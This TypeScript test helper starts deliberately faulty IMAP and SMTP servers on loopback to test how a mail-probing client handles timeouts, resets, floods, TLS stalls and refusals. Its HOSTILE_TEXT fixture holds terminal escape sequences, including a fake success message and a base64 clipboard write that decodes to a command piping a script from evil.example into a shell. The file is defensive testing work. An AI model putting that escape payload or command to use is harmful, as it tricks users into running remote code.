/**
 * Faulty IMAP and SMTP servers on loopback, for the fault-server suite (issue #9): each speaks just enough of its
 * protocol (greeting, EHLO/CAPABILITY, STARTTLS, AUTH/LOGIN) to lead a probe to the point where it misbehaves in one
 * way: silence, garbage, over-long or endless lines, a drip of one byte per second, a reset or a stall or
 * keep-alives during AUTH, a TLS handshake that never comes, a refusal (421, BYE). Raw node:net/node:tls rather than
 * smtp-server or the scripted IMAP server, because these are exactly the replies a well-behaved server cannot send.
 * Every writer respects backpressure and stops when the peer goes, so an endless reply costs the test process no
 * memory.
 */
import net from 'node:net';
import tls from 'node:tls';
import type { KeyAndCert } from './certs';

export const FAULTS = [
	'silent',
	'greet-then-silence',
	'garbage',
	'ten-mb-line',
	'endless-line',
	'close-after-starttls',
	'tls-stall',
	'starttls-stall',
	'reset-on-auth',
	'stall-on-auth',
	'keepalive-on-auth',
	'drip',
	'endless-multiline',
	'refuse',
	'refuse-on-auth',
	'escapes',
	/** Behaves; the test gives it an expired, self-signed or wrong-host certificate. */
	'bad-certificate',
] as const;
export type Fault = (typeof FAULTS)[number];

export interface FaultServerOptions {
	protocol: 'imap' | 'smtp';
	fault: Fault;
	/** Key and certificate for implicit TLS (`secure`) and STARTTLS. */
	tls: KeyAndCert;
	/** Implicit TLS from the first byte (like ports 993/465). */
	secure: boolean;
}

export interface FaultServer {
	host: '127.0.0.1';
	port: number;
	/** When each connection was accepted (`Date.now()`): a test times a probing process from there, not from its start-up. */
	acceptedAt: number[];
	close(): Promise<void>;
}

/** A greeting with terminal escape sequences: clear screen, a fake verdict, a clipboard write (OSC 52), a title. */
export const HOSTILE_TEXT =
	'\x1b[2J\x1b[H\x1b[1;32m✓ all checks passed\x1b[0m\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]0;pwned\x1b\\\u009b2J\r';

const TEN_MB = 10 * 1024 * 1024;
const KEEPALIVE_MS = 100;

export async function startFaultServer(options: FaultServerOptions): Promise<FaultServer> {
	const sockets = new Set<net.Socket>();
	const timers = new Set<NodeJS.Timeout>();
	const track = (socket: net.Socket) => {
		sockets.add(socket);
		socket.on('close', () => sockets.delete(socket));
		socket.on('error', () => socket.destroy());
	};
	const every = (socket: net.Socket, ms: number, tick: () => void) => {
		const timer = setInterval(() => (socket.destroyed ? stop() : tick()), ms);
		const stop = () => {
			clearInterval(timer);
			timers.delete(timer);
		};
		timers.add(timer);
		socket.once('close', stop);
	};
	// The TCP socket under each TLS session, by client port: a reset (RST) is sent on it, not on the TLS socket.
	const rawByPort = new Map<number | undefined, net.Socket>();
	const session = (socket: net.Socket, secure: boolean) => {
		track(socket);
		const raw = rawByPort.get(socket.remotePort) ?? socket;
		new FaultSession(socket, raw, secure, options, track, every).start();
	};
	const server =
		options.secure && options.fault === 'tls-stall'
			? net.createServer((socket) => track(socket)) // takes the ClientHello and never answers it
			: options.secure
				? tls.createServer({ key: options.tls.key, cert: options.tls.cert }, (socket) => session(socket, true))
				: net.createServer((socket) => session(socket, false));
	server.on('tlsClientError', () => undefined);
	const acceptedAt: number[] = [];
	server.on('connection', (socket: net.Socket) => {
		acceptedAt.push(Date.now());
		track(socket);
		rawByPort.set(socket.remotePort, socket);
		socket.once('close', () => rawByPort.delete(socket.remotePort));
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	return {
		host: '127.0.0.1',
		port: (server.address() as net.AddressInfo).port,
		acceptedAt,
		close: () =>
			new Promise<void>((resolve) => {
				for (const timer of timers) clearInterval(timer);
				for (const socket of sockets) socket.destroy();
				server.close(() => resolve());
			}),
	};
}

/** Writes `make()` chunks until the peer goes, waiting for the socket to drain between them. */
function flood(socket: net.Socket, make: () => string): void {
	const pump = () => {
		while (!socket.destroyed) {
			if (!socket.write(make())) {
				socket.once('drain', pump);
				return;
			}
		}
	};
	pump();
}

class FaultSession {
	private buffer = '';
	private greeted = false;

	constructor(
		private socket: net.Socket,
		private readonly raw: net.Socket,
		private secure: boolean,
		private readonly options: FaultServerOptions,
		private readonly track: (socket: net.Socket) => void,
		private readonly every: (socket: net.Socket, ms: number, tick: () => void) => void,
	) {}

	private get smtp(): boolean {
		return this.options.protocol === 'smtp';
	}

	start(): void {
		this.listen();
		const { fault } = this.options;
		switch (fault) {
			case 'silent':
				return;
			case 'garbage':
				// binary noise, escape sequences and a line end: no protocol's greeting
				this.socket.write(Buffer.from([0x16, 0x03, 0x01, 0xff, 0x00, 0x1b, 0x5b, 0x32, 0x4a, 0x9b, 0x41, 0x0d, 0x0a]));
				return;
			case 'ten-mb-line':
				this.socket.write(`${this.smtp ? '220 ' : '* OK '}${'A'.repeat(TEN_MB)}\r\n`);
				return;
			case 'endless-line':
				this.socket.write(this.smtp ? '220 ' : '* OK ');
				flood(this.socket, () => 'A'.repeat(64 * 1024));
				return;
			case 'drip': {
				const greeting = this.greetingLine();
				let sent = 0;
				this.socket.write(greeting[sent++] as string);
				this.every(this.socket, 1000, () => this.socket.write(greeting[sent++ % greeting.length] as string));
				return;
			}
			case 'refuse':
				this.send(this.smtp ? '421 4.7.0 Too many connections, try again later' : '* BYE Too many connections');
				this.socket.end();
				return;
			case 'endless-multiline':
				if (this.smtp) {
					flood(this.socket, () => '220-still greeting you\r\n'.repeat(256));
					return;
				}
				break;
			default:
				break;
		}
		this.greet();
	}

	private greetingLine(): string {
		return this.smtp ? '220 fault.test ESMTP ready\r\n' : '* OK IMAP4rev1 fault server ready\r\n';
	}

	private greet(): void {
		this.greeted = true;
		const text = this.options.fault === 'escapes' ? ` ${HOSTILE_TEXT}` : '';
		this.send(`${this.greetingLine().trimEnd()}${text}`);
	}

	private listen(): void {
		this.socket.on('data', (chunk: Buffer) => {
			this.buffer += chunk.toString('latin1');
			let index: number;
			while ((index = this.buffer.indexOf('\n')) >= 0) {
				const line = this.buffer.slice(0, index).replace(/\r$/, '');
				this.buffer = this.buffer.slice(index + 1);
				if (this.onLine(line) === 'upgraded') return;
			}
		});
	}

	private send(line: string): void {
		if (!this.socket.destroyed) this.socket.write(`${line}\r\n`);
	}

	private onLine(line: string): 'upgraded' | undefined {
		if (!this.greeted || this.options.fault === 'greet-then-silence') return undefined;
		return this.smtp ? this.onSmtp(line) : this.onImap(line);
	}

	private onSmtp(line: string): 'upgraded' | undefined {
		const verb = line.split(' ')[0]?.toUpperCase();
		if (verb === 'EHLO' || verb === 'HELO') {
			if (this.options.fault === 'endless-multiline') {
				flood(this.socket, () => '250-PIPELINING\r\n'.repeat(256));
				return undefined;
			}
			const lines = ['250-fault.test', ...(this.secure ? [] : ['250-STARTTLS']), '250 AUTH PLAIN LOGIN'];
			this.send(lines.join('\r\n'));
			return undefined;
		}
		if (verb === 'STARTTLS') return this.startTls('220 2.0.0 Ready to start TLS');
		if (verb === 'AUTH') {
			this.onAuth('235 2.7.0 Authentication successful', '421 4.7.0 Too many login attempts, closing connection');
			return undefined;
		}
		if (verb === 'QUIT') {
			this.send('221 2.0.0 Bye');
			this.socket.end();
			return undefined;
		}
		this.send('502 5.5.2 Command not recognized');
		return undefined;
	}

	private onImap(line: string): 'upgraded' | undefined {
		const [tag = '*', rawVerb = ''] = line.split(' ');
		const verb = rawVerb.toUpperCase();
		if (verb === 'CAPABILITY') {
			if (this.options.fault === 'endless-multiline') {
				flood(this.socket, () => '* OK [ALERT] still listing\r\n'.repeat(256));
				return undefined;
			}
			this.send(`* CAPABILITY IMAP4rev1 ${this.secure ? '' : 'STARTTLS '}AUTH=PLAIN`);
			this.send(`${tag} OK CAPABILITY completed`);
			return undefined;
		}
		if (verb === 'STARTTLS') return this.startTls(`${tag} OK Begin TLS negotiation now`);
		if (verb === 'LOGIN' || verb === 'AUTHENTICATE') {
			this.onAuth(`${tag} OK [CAPABILITY IMAP4rev1] Logged in`, '* BYE Autologout; too many login attempts');
			return undefined;
		}
		if (verb === 'LOGOUT') {
			this.send('* BYE Logging out');
			this.send(`${tag} OK LOGOUT completed`);
			this.socket.end();
			return undefined;
		}
		if (verb === 'NAMESPACE') this.send('* NAMESPACE (("" "/")) NIL NIL');
		if (verb === 'STATUS') this.send('* STATUS INBOX (MESSAGES 1 UNSEEN 0)');
		this.send(`${tag} OK ${verb} completed`);
		return undefined;
	}

	private onAuth(accepted: string, refusal: string): void {
		switch (this.options.fault) {
			case 'reset-on-auth':
				this.raw.resetAndDestroy();
				return;
			case 'stall-on-auth':
				return;
			case 'keepalive-on-auth':
				// never the final line: SMTP continuation lines of a reply, IMAP untagged keep-alives
				this.every(this.socket, KEEPALIVE_MS, () =>
					this.send(this.smtp ? '235-2.7.0 still checking your credentials' : '* OK Still here'),
				);
				return;
			case 'refuse-on-auth':
				this.send(refusal);
				this.socket.end();
				return;
			default:
				this.send(accepted);
		}
	}

	private startTls(ready: string): 'upgraded' | undefined {
		this.send(ready);
		const { fault } = this.options;
		if (fault === 'close-after-starttls') {
			this.socket.destroy();
			return 'upgraded';
		}
		this.socket.removeAllListeners('data');
		if (fault === 'starttls-stall') return 'upgraded'; // reads the ClientHello, never answers
		const secureSocket = new tls.TLSSocket(this.socket, {
			isServer: true,
			secureContext: tls.createSecureContext({ key: this.options.tls.key, cert: this.options.tls.cert }),
		});
		this.track(secureSocket);
		this.socket = secureSocket;
		this.secure = true;
		this.buffer = '';
		this.listen();
		return 'upgraded';
	}
}
